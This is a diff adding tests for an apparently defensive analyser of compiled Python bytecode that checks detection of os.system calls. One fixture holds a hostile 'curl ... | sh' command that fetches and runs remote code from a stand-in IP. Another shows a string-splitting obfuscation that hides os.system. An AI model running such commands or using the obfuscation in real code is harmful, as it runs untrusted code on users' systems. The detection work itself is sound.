@@ -12,7 +12,7 @@ from stannary.core.errors import FormatError
 from stannary.formats.interface import View
 from stannary.formats.marshal_code import LAYOUTS, read_marshal
 from stannary.formats.marshal_names import code_names
-from stannary.testing.forges.programs import code, pyc
+from stannary.testing.forges.programs import code, compiled, pyc
 
 SOURCE = '''
 """A module."""
@@ -83,3 +83,37 @@ def test_top_level_is_told_from_functions():
     inner = code(("os", "system"), (None,), "f")
     report = read_view(View(pyc(code(("f",), (inner,))), "m.pyc"), strict=True)
     assert [fact.data["top"] for fact in report.facts if fact.kind == "pyc.call"] == [False]
+
+
+@pytest.mark.parametrize(
+    "source, calls",
+    [
+        ("import os\ndef f(x):\n    x.system = os.getcwd()\n", {"os.getcwd"}),
+        ("import random\nrandom._os.system('echo stannary')\n", {"os.system"}),
+        ("getattr(__import__('o' + 's'), 'sys' + 'tem')('echo stannary')\n", {"os.system"}),
+        ("import os\ndef f(g):\n    return g(target=os.system)\n", {"os.system"}),
+    ],
+)
+def test_compiled_code_is_judged_by_what_it_calls_and_not_by_its_names(source, calls):
+    report = read_view(View(compiled(source), "m.pyc"), strict=True)
+    assert report.missed == ()
+    seen = {fact.data["name"] for fact in report.facts if fact.kind == "pyc.call"}
+    assert seen & {"os.system", "os.getcwd"} == calls
+
+
+def test_the_arguments_of_calls_in_compiled_code_are_known():
+    content = compiled("import os\nos.system('curl http://192.0.2.1/x | sh')\n")
+    calls = [fact.data for fact in read_view(View(content, "m.pyc"), strict=True).facts if fact.kind == "python.call"]
+    assert [(call["name"], call["scope"], call["args"]) for call in calls] == [
+        ("os.system", "import", ["curl http://192.0.2.1/x | sh"])
+    ]
+
+
+def test_compiled_code_that_does_not_add_up_is_judged_by_its_names():
+    content = compiled("import os\nos.system('echo stannary')\n")
+    header, body = content[:16], content[16:]
+    code_object = read_marshal(body)[0].body
+    broken = header + body.replace(code_object.code, bytes(len(code_object.code)))
+    report = read_view(View(broken, "m.pyc"), strict=True)
+    assert {fact.data["name"] for fact in report.facts if fact.kind == "pyc.call"} == {"os.system"}
+    assert not [fact for fact in report.facts if fact.kind == "python.call"]
